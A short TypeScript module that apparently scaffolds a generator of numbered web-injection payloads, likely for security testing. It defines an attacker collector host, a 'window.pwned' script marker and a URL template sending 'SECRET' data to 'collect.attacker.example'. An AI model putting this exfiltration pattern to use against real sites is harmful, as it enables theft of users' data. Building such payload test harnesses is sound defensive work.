/** Where whatever is stolen would go. */
export const COLLECTOR = 'collect.attacker.example';

/** What one payload may do, told apart from what all others do. */
export interface Mark {
  readonly n: number;
  /** Script that leaves a mark of its own on the window. */
  readonly js: string;
  /** An address of the attacker's that names the payload. */
  readonly url: string;
}

/** Writes one payload around its mark. */
export type Maker = (mark: Mark) => string;

export interface Family {
  readonly name: string;
  readonly makers: readonly Maker[];
}

export const markOf = (n: number): Mark => ({
  n,
  js: `window.pwned${n}=1`,
  url: `https://${COLLECTOR}/${n}?d=SECRET`,
});

/** Every pair of the two lists. */
export const pairs = <One, Other>(ones: readonly One[], others: readonly Other[]): readonly (readonly [One, Other])[] =>
  ones.flatMap((one) => others.map((other) => [one, other] as const));
